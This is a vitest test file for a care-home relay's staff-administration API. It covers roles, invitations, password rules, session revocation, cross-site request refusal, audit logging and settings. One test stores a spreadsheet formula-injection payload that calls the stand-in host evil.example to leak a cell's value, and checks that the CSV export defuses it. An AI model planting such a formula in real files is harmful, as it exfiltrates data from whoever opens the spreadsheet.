import { inviteSchema, orgSettingsSchema, residentSchema, staffAccountSchema, staffMemberSchema } from "@letterbox/shared";
import { describe, expect, it } from "vitest";
import { z } from "zod";
import { type Engine, engines } from "../test-databases";
import {
  acceptInvite,
  cookieSetBy,
  expectBody,
  expectError,
  firstStaff,
  firstStaffSetupToken,
  inviteToken,
  OFFICER,
  quickHasher,
  type Relay,
  rowCounts,
  SESSION_COOKIE,
  STAFF,
  START,
  type StaffClient,
  secondStaff,
  signIn,
  startRelay,
  tabletStatus,
} from "../test-support";

const meSchema = z.object({ staff: staffMemberSchema });
const inviteBody = z.object({ invite: inviteSchema });
const staffList = z.object({ staff: z.array(staffAccountSchema) });
const settingsBody = z.object({ settings: orgSettingsSchema });
const residentBody = z.object({ resident: residentSchema });
const OK = z.object({ ok: z.literal(true) });

const DAY_MINUTES = 24 * 60;
const EVIL = "https://evil.example";

async function adminAndOfficer(engine: Engine) {
  const relay = await startRelay({ engine });
  const admin = await firstStaff(relay);
  const { client: officer, member } = await secondStaff(relay, admin, "officer");
  return { relay, admin, officer, officerId: member.id };
}

async function invite(admin: StaffClient, role: "admin" | "officer" = "officer") {
  return (await expectBody(await admin.request("/invites", { json: { role } }), 201, inviteBody)).invite;
}

const me = (relay: Relay, cookie: string) => relay.request("/api/staff/me", { cookie });

/** The session Cookie header set by a sign-in, accepted invitation or set-up. */
function sessionOf(res: Response): string {
  const cookie = cookieSetBy(res, SESSION_COOKIE);
  if (!cookie) throw new Error("No session cookie was set");
  return `${SESSION_COOKIE}=${cookie.value}`;
}

/** The administrator-only requests, each with a body that would succeed for an administrator. */
function adminOnly(targetStaffId: string): [string, string, unknown][] {
  return [
    ["GET", "/staff", undefined],
    ["POST", "/invites", { role: "officer" }],
    ["POST", `/staff/${targetStaffId}/disable`, undefined],
    ["POST", `/staff/${targetStaffId}/enable`, undefined],
    ["POST", `/staff/${targetStaffId}/end-sessions`, undefined],
    ["GET", "/audit", undefined],
    ["GET", "/audit.csv", undefined],
    ["GET", "/settings", undefined],
    ["PATCH", "/settings", { offlineAlertHours: 12 }],
  ];
}

describe.each(engines)("staff administration on $name", (engine) => {
  describe("roles", () => {
    it("let an officer manage residents", async () => {
      const { relay, officer } = await adminAndOfficer(engine);
      expect((await expectBody(await officer.request("/me"), 200, meSchema)).staff).toMatchObject({
        name: OFFICER.name,
        role: "officer",
      });
      const { resident, link, deviceToken } = await officer.household("Margaret");
      const patched = await officer.request(`/residents/${resident.id}`, { method: "PATCH", json: { paused: true } });
      expect((await expectBody(patched, 200, residentBody)).resident.settings.paused).toBe(true);
      expect((await officer.revokeFamilyLink(resident.id, link.id)).status).toBe(200);
      expect((await officer.request("/dashboard")).status).toBe(200);
      expect((await officer.request(`/residents/${resident.id}/devices`)).status).toBe(200);
      expect((await officer.request(`/residents/${resident.id}/export`)).status).toBe(200);
      expect((await officer.request(`/residents/${resident.id}/archive`, { method: "POST" })).status).toBe(200);
      await expectBody(await tabletStatus(relay, deviceToken), 200, OK);
      expect((await officer.request(`/residents/${resident.id}`, { method: "DELETE" })).status).toBe(200);
    });

    it("refuse an officer everything an administrator manages, with 403 forbidden, and change nothing", async () => {
      const { relay, admin, officer } = await adminAndOfficer(engine);
      const { staff } = await expectBody(await admin.request("/staff"), 200, staffList);
      const adminId = staff.find((s) => s.role === "admin")?.id as string;
      const before = await rowCounts(relay);
      const settingsBefore = await relay.services.residents.orgSettings();

      for (const [method, path, json] of adminOnly(adminId)) {
        const res = await officer.request(path, { method, json });
        expect(`${method} ${path}: ${res.status}`).toBe(`${method} ${path}: 403`);
        await expectError(res, 403, "forbidden");
      }

      // The administrator is still signed in and enabled; no invitation was made; settings unchanged.
      await expectBody(await admin.request("/me"), 200, meSchema);
      const after = await rowCounts(relay);
      expect(after.staff_invites).toBe(before.staff_invites);
      expect(after.staff_sessions).toBe(before.staff_sessions);
      expect(after.audit_log).toBe(before.audit_log);
      expect(await relay.services.residents.orgSettings()).toEqual(settingsBefore);
    });

    it("let an administrator do all of it", async () => {
      const { admin, officerId } = await adminAndOfficer(engine);
      for (const [method, path, json] of adminOnly(officerId)) {
        const res = await admin.request(path, { method, json });
        expect(`${method} ${path}: ${res.status}`).toMatch(new RegExp(`^${method} ${path.replace(/\./g, "\\.")}: 20[01]$`));
      }
    });
  });

  describe("an invitation", () => {
    it("makes an account with the role it was made for, and signs the new person in", async () => {
      const relay = await startRelay({ engine });
      const admin = await firstStaff(relay);
      const made = await invite(admin, "admin");
      expect(made.role).toBe("admin");
      expect(made.url).toMatch(/^http:\/\/localhost:8080\/staff#invite=[A-Za-z0-9_-]{43}$/);
      expect(made.expiresAt).toBe(new Date(START.getTime() + 7 * 86_400_000).toISOString());

      const newAdmin = {
        name: "Bethan Morgan",
        email: "Bethan.Morgan@council.example",
        password: "seven orange bicycles leaning",
      };
      const res = await acceptInvite(relay, inviteToken(made.url), newAdmin);
      const cookie = sessionOf(res);
      const { staff } = await expectBody(res, 201, meSchema);
      expect(staff).toMatchObject({ name: "Bethan Morgan", email: "bethan.morgan@council.example", role: "admin" });
      expect((await expectBody(await me(relay, cookie), 200, meSchema)).staff).toEqual(staff);
      // An administrator made by invitation can manage staff.
      expect((await relay.request("/api/staff/staff", { cookie })).status).toBe(200);
      // And can sign in again later with the password chosen.
      await expectBody(await signIn(relay, newAdmin.email, newAdmin.password), 200, meSchema);
    });

    it("for an officer makes an officer", async () => {
      const relay = await startRelay({ engine });
      const admin = await firstStaff(relay);
      const res = await acceptInvite(relay, inviteToken((await invite(admin, "officer")).url), OFFICER);
      expect((await expectBody(res, 201, meSchema)).staff.role).toBe("officer");
      const { staff } = await expectBody(await admin.request("/staff"), 200, staffList);
      expect(staff.map((s) => [s.name, s.role, s.disabledAt])).toEqual([
        ["Owen Pritchard", "officer", null],
        ["Priya Shah", "admin", null],
      ]);
    });

    it("works once", async () => {
      const relay = await startRelay({ engine });
      const admin = await firstStaff(relay);
      const token = inviteToken((await invite(admin)).url);
      expect((await acceptInvite(relay, token, OFFICER)).status).toBe(201);
      const again = await acceptInvite(relay, token, { ...OFFICER, email: "someone.else@council.example" });
      expect(cookieSetBy(again, SESSION_COOKIE)).toBeUndefined();
      await expectError(again, 400, "invite_invalid");
      expect((await rowCounts(relay)).staff).toBe(2);
    });

    it("expires 7 days after it was made", async () => {
      const relay = await startRelay({ engine });
      const admin = await firstStaff(relay);
      const early = inviteToken((await invite(admin)).url);
      const late = inviteToken((await invite(admin)).url);
      relay.clock.advanceMinutes(7 * DAY_MINUTES - 1);
      expect((await acceptInvite(relay, early, OFFICER)).status).toBe(201);
      relay.clock.advanceMinutes(1);
      await expectError(await acceptInvite(relay, late, { ...OFFICER, email: "late@council.example" }), 400, "invite_invalid");
      expect((await rowCounts(relay)).staff).toBe(2);
    });

    it("cannot be made up", async () => {
      const relay = await startRelay({ engine });
      await firstStaff(relay);
      await expectError(await acceptInvite(relay, "x".repeat(43), OFFICER), 400, "invite_invalid");
      expect((await rowCounts(relay)).staff).toBe(1);
    });

    it("is kept for another try when the email address is taken", async () => {
      const relay = await startRelay({ engine });
      const admin = await firstStaff(relay);
      const token = inviteToken((await invite(admin)).url);
      await expectError(await acceptInvite(relay, token, { ...OFFICER, email: STAFF.email }), 409, "email_taken");
      expect((await acceptInvite(relay, token, OFFICER)).status).toBe(201);
    });
  });

  describe("a set-up link or invitation that does not work", () => {
    const MADE_UP = "x".repeat(43);
    const post = (relay: Relay, path: string, json: object, i: number) =>
      relay.request(`/api/staff${path}`, { json, from: `192.0.2.${i + 1}` });

    it("is refused before any password is hashed, even thirty at once", async () => {
      const hasher = quickHasher();
      const relay = await startRelay({ engine, passwordHasher: hasher });
      await firstStaffSetupToken(relay);
      const setups = await Promise.all(
        Array.from({ length: 30 }, (_, i) => post(relay, "/setup", { token: MADE_UP, ...STAFF }, i)),
      );
      for (const res of setups) await expectError(res, 400, "setup_link_invalid");
      expect(hasher.hashed).toEqual([]);

      await firstStaff(relay);
      expect(hasher.hashed).toEqual([STAFF.password]);
      const accepts = await Promise.all(
        Array.from({ length: 30 }, (_, i) => post(relay, "/invites/accept", { token: MADE_UP, ...OFFICER }, i)),
      );
      for (const res of accepts) await expectError(res, 400, "invite_invalid");
      expect(hasher.hashed).toEqual([STAFF.password]);
    });

    it("is refused before the password is hashed when it has been used or has expired", async () => {
      const hasher = quickHasher();
      const relay = await startRelay({ engine, passwordHasher: hasher });
      const setupToken = await firstStaffSetupToken(relay);
      const admin = await firstStaff(relay);
      const used = inviteToken((await invite(admin)).url);
      const expired = inviteToken((await invite(admin)).url);
      await expectBody(await acceptInvite(relay, used, OFFICER), 201, z.object({ staff: staffMemberSchema }));
      const before = hasher.hashed.length;

      relay.clock.advanceMinutes(7 * 24 * 60);
      const again = { ...OFFICER, email: "someone.else@council.example" };
      await expectError(await post(relay, "/invites/accept", { token: used, ...again }, 0), 400, "invite_invalid");
      await expectError(await post(relay, "/invites/accept", { token: expired, ...again }, 1), 400, "invite_invalid");
      await expectError(await post(relay, "/setup", { token: setupToken, ...again }, 2), 400, "setup_link_invalid");
      expect(hasher.hashed).toHaveLength(before);
    });
  });

  describe("a new password", () => {
    async function withInvite() {
      const relay = await startRelay({ engine });
      const admin = await firstStaff(relay);
      return { relay, admin, token: inviteToken((await invite(admin)).url) };
    }

    it("of fewer than 12 characters is refused, and the invitation is not used up", async () => {
      const { relay, token } = await withInvite();
      const message = await expectError(
        await acceptInvite(relay, token, { ...OFFICER, password: "elevenchars" }),
        400,
        "invalid_request",
      );
      expect(message).toContain("12");
      expect((await rowCounts(relay)).staff).toBe(1);
      expect((await acceptInvite(relay, token, { ...OFFICER, password: "twelve chars" })).status).toBe(201);
    });

    it.each([
      ["a common password of 12 digits", "123456789012"],
      ["a common password in capitals", "QWERTY123456"],
      ["the person's name", "Owen Pritchard"],
    ])("is refused when it is %s, with password_too_common", async (_what, password) => {
      const { relay, token } = await withInvite();
      expect(password.length).toBeGreaterThanOrEqual(12);
      await expectError(await acceptInvite(relay, token, { ...OFFICER, password }), 400, "password_too_common");
      expect((await rowCounts(relay)).staff).toBe(1);
    });

    it("is refused at first set-up too when it is common", async () => {
      const relay = await startRelay({ engine });
      const token = await relay.services.staff.issueFirstStaffLink();
      const setup = token?.split("#setup=")[1] as string;
      const res = await relay.request("/api/staff/setup", { json: { token: setup, ...STAFF, password: "123456789012" } });
      await expectError(res, 400, "password_too_common");
      expect((await rowCounts(relay)).staff).toBe(0);
    });

    it.each([
      ["a passphrase of ordinary words", "purple giraffe drinks tea"],
      ["a long passphrase with no composition rules at all", "all lowercase and no digits"],
      ["exactly 12 characters", "kettle grove"],
    ])("is accepted when it is %s", async (_what, password) => {
      const { relay, token } = await withInvite();
      expect((await acceptInvite(relay, token, { ...OFFICER, password })).status).toBe(201);
      await expectBody(await signIn(relay, OFFICER.email, password), 200, meSchema);
    });
  });

  describe("staff sessions", () => {
    it("end at once when the account is disabled, and it cannot sign in until enabled again", async () => {
      const { relay, admin, officer, officerId } = await adminAndOfficer(engine);
      const elsewhere = sessionOf(await signIn(relay, OFFICER.email, OFFICER.password));

      const sessions = (await rowCounts(relay)).staff_sessions;
      await expectBody(await admin.request(`/staff/${officerId}/disable`, { method: "POST" }), 200, OK);
      // Both of the officer's sessions are deleted, not merely refused.
      expect((await rowCounts(relay)).staff_sessions).toBe(sessions - 2);
      await expectError(await officer.request("/me"), 401, "unauthenticated");
      await expectError(
        await officer.request("/residents", { json: { fullName: "A B", preferredName: "A" } }),
        401,
        "unauthenticated",
      );
      await expectError(await me(relay, elsewhere), 401, "unauthenticated");
      await expectError(await signIn(relay, OFFICER.email, OFFICER.password), 401, "wrong_password");
      expect((await rowCounts(relay)).residents).toBe(0);

      const { staff } = await expectBody(await admin.request("/staff"), 200, staffList);
      expect(staff.find((s) => s.id === officerId)?.disabledAt).toBe(START.toISOString());

      await expectBody(await admin.request(`/staff/${officerId}/enable`, { method: "POST" }), 200, OK);
      const again = sessionOf(await signIn(relay, OFFICER.email, OFFICER.password));
      await expectBody(await me(relay, again), 200, meSchema);
    });

    it("do not start for a sign-in that was under way while the account was disabled", async () => {
      const { relay, admin, officerId } = await adminAndOfficer(engine);
      // The password check takes a while (scrypt); the administrator disables the account meanwhile.
      const [signingIn] = await Promise.all([
        signIn(relay, OFFICER.email, OFFICER.password),
        admin.request(`/staff/${officerId}/disable`, { method: "POST" }),
      ]);
      // However the two interleave, the officer ends up with no session that works.
      const cookie = cookieSetBy(signingIn, SESSION_COOKIE);
      if (signingIn.status === 200 && cookie) {
        await expectError(await me(relay, `${SESSION_COOKIE}=${cookie.value}`), 401, "unauthenticated");
      } else {
        await expectError(signingIn, 401, "wrong_password");
      }
    });

    it("of another account are ended everywhere by an administrator, who stays signed in", async () => {
      const { relay, admin, officer, officerId } = await adminAndOfficer(engine);
      const elsewhere = sessionOf(await signIn(relay, OFFICER.email, OFFICER.password));

      const res = await admin.request(`/staff/${officerId}/end-sessions`, { method: "POST" });
      expect((await expectBody(res, 200, z.object({ ended: z.number() }))).ended).toBe(2);
      await expectError(await officer.request("/me"), 401, "unauthenticated");
      await expectError(await me(relay, elsewhere), 401, "unauthenticated");
      await expectBody(await admin.request("/me"), 200, meSchema);
      // The account itself still works: the officer signs in again.
      await expectBody(await signIn(relay, OFFICER.email, OFFICER.password), 200, meSchema);
    });

    it("cannot be ended by disabling one's own account", async () => {
      const relay = await startRelay({ engine });
      const admin = await firstStaff(relay);
      const { id } = (await expectBody(await admin.request("/me"), 200, meSchema)).staff;
      await expectError(await admin.request(`/staff/${id}/disable`, { method: "POST" }), 403, "forbidden");
      await expectBody(await admin.request("/me"), 200, meSchema);
      const { staff } = await expectBody(await admin.request("/staff"), 200, staffList);
      expect(staff[0]?.disabledAt).toBeNull();
    });

    it("of an unknown account are a 404", async () => {
      const relay = await startRelay({ engine });
      const admin = await firstStaff(relay);
      const nobody = "00000000-0000-4000-8000-000000000000";
      await expectError(await admin.request(`/staff/${nobody}/disable`, { method: "POST" }), 404, "not_found");
      await expectError(await admin.request(`/staff/${nobody}/end-sessions`, { method: "POST" }), 404, "not_found");
    });
  });

  describe("a request from another website", () => {
    it.each([
      ["an Origin of another site", { Origin: EVIL }],
      ["an Origin of the same host on another port", { Origin: "http://localhost:9999" }],
      ["a null Origin", { Origin: "null" }],
      ["Sec-Fetch-Site: cross-site", { "Sec-Fetch-Site": "cross-site" }],
      ["Sec-Fetch-Site: same-site", { "Sec-Fetch-Site": "same-site" }],
    ])("with %s is refused with 403 and changes nothing", async (_what, headers) => {
      const { relay, admin, officerId } = await adminAndOfficer(engine);
      const margaret = await admin.createResident("Margaret");
      const before = await rowCounts(relay);
      const attempts: [string, string, unknown][] = [
        ["POST", "/residents", { fullName: "Mallory Example", preferredName: "Mallory" }],
        ["PATCH", `/residents/${margaret.id}`, { paused: true }],
        ["DELETE", `/residents/${margaret.id}`, undefined],
        ["POST", `/residents/${margaret.id}/family-links`, { label: "Mallory" }],
        ["POST", "/invites", { role: "admin" }],
        ["POST", `/staff/${officerId}/disable`, undefined],
        ["PATCH", "/settings", { offlineAlertHours: 1 }],
        ["POST", "/logout", undefined],
      ];
      for (const [method, path, json] of attempts) {
        const res = await admin.request(path, { method, json, headers });
        expect(`${method} ${path}: ${res.status}`).toBe(`${method} ${path}: 403`);
        await expectError(res, 403, "forbidden");
      }
      // Signing in from another site (login CSRF) is refused as well.
      await expectError(
        await relay.request("/api/staff/login", { json: { email: STAFF.email, password: STAFF.password }, headers }),
        403,
        "forbidden",
      );
      expect(await rowCounts(relay)).toEqual(before);
      expect((await admin.request(`/residents/${margaret.id}`).then((r) => expectBody(r, 200, residentBody))).resident).toEqual(
        margaret,
      );
      await expectBody(await admin.request("/me"), 200, meSchema);
    });

    it("does not affect reading: GETs from anywhere still answer", async () => {
      const { admin } = await adminAndOfficer(engine);
      await admin.createResident("Margaret");
      const res = await admin.request("/residents", { headers: { Origin: EVIL, "Sec-Fetch-Site": "cross-site" } });
      expect(res.status).toBe(200);
    });

    it("from the relay's own origin works, as does one from no browser at all", async () => {
      const { relay, admin } = await adminAndOfficer(engine);
      const own = await admin.request("/residents", {
        json: { fullName: "Margaret Jones", preferredName: "Margaret" },
        headers: { Origin: relay.publicUrl.replace(/\/$/, ""), "Sec-Fetch-Site": "same-origin" },
      });
      expect(own.status).toBe(201);
      const typedIn = await admin.request("/residents", {
        json: { fullName: "Arthur Evans", preferredName: "Arthur" },
        headers: { "Sec-Fetch-Site": "none" },
      });
      expect(typedIn.status).toBe(201);
      expect((await rowCounts(relay)).residents).toBe(2);
    });
  });

  describe("the audit log", () => {
    it("records each staff action with who, what, which resident and from where", async () => {
      const relay = await startRelay({ engine });
      const admin = await firstStaff(relay);
      const from = "192.0.2.10";
      const signedIn = sessionOf(await signIn(relay, STAFF.email, STAFF.password, from));
      const req = (path: string, o: Parameters<StaffClient["request"]>[1] = {}) =>
        relay.request(`/api/staff${path}`, { cookie: signedIn, from, ...o });

      const { resident } = await expectBody(
        await req("/residents", { json: { fullName: "Margaret Jones", preferredName: "Margaret" } }),
        201,
        residentBody,
      );
      const r = resident.id;
      await req(`/residents/${r}`, { method: "PATCH", json: { textSize: "larger" } });
      await req(`/residents/${r}`, { method: "PATCH", json: { paused: true } });
      await req(`/residents/${r}`, { method: "PATCH", json: { paused: false } });
      const linkRes = await req(`/residents/${r}/family-links`, { json: { label: "Sarah (daughter)" } });
      const { link } = (await linkRes.json()) as { link: { id: string } };
      const reissued = (await (await req(`/residents/${r}/family-links/${link.id}/reissue`, { method: "POST" })).json()) as {
        link: { id: string };
      };
      await req(`/residents/${r}/family-links/${reissued.link.id}/revoke`, { method: "POST" });
      const { setupCode } = (await (await req(`/residents/${r}/setup-codes`, { method: "POST" })).json()) as {
        setupCode: { code: string };
      };
      const tabletFrom = "192.0.2.20";
      const pairing = await relay.request("/api/tablet/pair", { json: { code: setupCode.code }, from: tabletFrom });
      const paired = (await pairing.json()) as {
        deviceToken: string;
      };
      await tabletStatus(relay, paired.deviceToken);
      const { devices } = (await (await req(`/residents/${r}/devices`)).json()) as { devices: { id: string }[] };
      const deviceId = devices[0]?.id as string;
      await req(`/residents/${r}/devices/${deviceId}/wipe`, { method: "POST" });
      await req(`/residents/${r}/archive`, { method: "POST" });
      await req(`/residents/${r}/unarchive`, { method: "POST" });
      await req(`/residents/${r}/export`);
      await req("/invites", { json: { role: "officer" } });
      await req("/settings", { method: "PATCH", json: { unseenAlertHours: 24 } });
      await req(`/residents/${r}`, { method: "DELETE" });

      const entries = (await admin.auditEntries()).reverse();
      const byAdmin = entries.filter((e) => e.source === from);
      expect(byAdmin.map((e) => [e.action, e.residentId])).toEqual([
        ["staff.signed_in", null],
        ["resident.created", r],
        ["resident.updated", r],
        ["resident.paused", r],
        ["resident.resumed", r],
        ["family_link.created", r],
        ["family_link.reissued", r],
        ["family_link.revoked", r],
        ["tablet.setup_code_created", r],
        ["tablet.wiped", r],
        ["resident.archived", r],
        ["resident.unarchived", r],
        ["resident.exported", r],
        ["staff.invited", null],
        ["settings.updated", null],
        ["resident.erased", r],
      ]);
      for (const e of byAdmin) expect(e.staffName).toBe(STAFF.name);
      expect(byAdmin.find((e) => e.action === "family_link.created")?.detail).toEqual({
        familyLinkId: link.id,
      });
      expect(byAdmin.find((e) => e.action === "tablet.wiped")?.detail).toEqual({ deviceId });
      expect(byAdmin.find((e) => e.action === "resident.updated")?.detail).toEqual({ fields: ["textSize"] });
      expect(byAdmin.find((e) => e.action === "settings.updated")?.detail).toEqual({ unseenAlertHours: 24 });
      expect(entries.every((e) => e.at === START.toISOString())).toBe(true);
      // Pairing happens on the tablet, not in the console: recorded with the tablet's address.
      expect(entries.filter((e) => e.action === "tablet.paired")).toEqual([
        {
          at: START.toISOString(),
          staffName: "tablet set-up",
          action: "tablet.paired",
          residentId: r,
          detail: { deviceId, from: tabletFrom },
          source: "relay",
        },
      ]);
    });

    it("records the staff administration too: invitations, joining, disabling, enabling and ending sessions", async () => {
      const { admin, officerId } = await adminAndOfficer(engine);
      await admin.request(`/staff/${officerId}/end-sessions`, { method: "POST" });
      await admin.request(`/staff/${officerId}/disable`, { method: "POST" });
      await admin.request(`/staff/${officerId}/enable`, { method: "POST" });
      const entries = (await admin.auditEntries()).reverse();
      expect(entries.map((e) => [e.staffName, e.action, e.detail])).toEqual([
        [STAFF.name, "staff.created_first_administrator", {}],
        [STAFF.name, "staff.invited", { role: "officer" }],
        [OFFICER.name, "staff.joined", { role: "officer" }],
        [STAFF.name, "staff.sessions_ended", { staffId: officerId, sessions: 1 }],
        [STAFF.name, "staff.disabled", { staffId: officerId }],
        [STAFF.name, "staff.enabled", { staffId: officerId }],
      ]);
    });

    it("is exported as CSV with formula-looking cells defused, and the export is itself recorded", async () => {
      const relay = await startRelay({ engine });
      const admin = await firstStaff(relay);
      const formula = '=HYPERLINK("https://evil.example/?x="&A1,"Click me")';
      const margaret = await admin.createResident("Margaret");
      await admin.createFamilyLink(margaret.id, formula);
      await secondStaff(relay, admin, "officer", { ...OFFICER, name: formula });
      await secondStaff(relay, admin, "officer", { ...OFFICER, name: "+44 7700 900123", email: "plus@council.example" });
      await secondStaff(relay, admin, "officer", { ...OFFICER, name: "-Ann", email: "minus@council.example" });
      await secondStaff(relay, admin, "officer", { ...OFFICER, name: "@Ann", email: "at@council.example" });

      const res = await admin.request("/audit.csv");
      expect(res.status).toBe(200);
      expect(res.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
      expect(res.headers.get("Content-Disposition")).toBe('attachment; filename="letterbox-audit.csv"');
      const rows = parseCsv(await res.text());
      expect(rows[0]).toEqual(["time", "staff", "action", "resident", "detail", "from"]);
      // No cell may start with what a spreadsheet runs as a formula.
      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      const staffNames = rows.slice(1).map((r) => r[1]);
      expect(staffNames).toContain(`'${formula}`);
      expect(staffNames).toContain("'+44 7700 900123");
      expect(staffNames).toContain("'-Ann");
      expect(staffNames).toContain("'@Ann");
      // The detail is kept whole as JSON; it names the link by id, not by the family member's name.
      const linkRow = rows.find((r) => r[2] === "family_link.created");
      expect(JSON.parse(linkRow?.[4] ?? "{}")).toEqual({ familyLinkId: expect.any(String) });
      expect(linkRow?.[3]).toBe(margaret.id);

      const entries = await admin.auditEntries();
      expect(entries[0]).toMatchObject({ action: "audit.exported", staffName: STAFF.name });
    });
  });

  describe("organisation settings", () => {
    it("are changed by an administrator, partly, and validated", async () => {
      const relay = await startRelay({ engine });
      const admin = await firstStaff(relay);
      const res = await admin.request("/settings", { method: "PATCH", json: { offlineAlertHours: 24 } });
      expect((await expectBody(res, 200, settingsBody)).settings).toEqual({
        offlineAlertHours: 24,
        unseenAlertHours: 48,
        noFamilyMessageAlertDays: 14,
        auditRetentionDays: 730,
      });
      for (const json of [{ auditRetentionDays: 10 }, { offlineAlertHours: 0 }, { colour: "red" }, { unseenAlertHours: "12" }]) {
        await expectError(await admin.request("/settings", { method: "PATCH", json }), 400, "invalid_request");
      }
      expect((await relay.services.residents.orgSettings()).offlineAlertHours).toBe(24);
    });
  });
});

/** RFC 4180: quoted cells, doubled quotes, CRLF between records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += ch;
  }
  if (cell !== "" || row.length > 0) rows.push([...row, cell]);
  return rows;
}
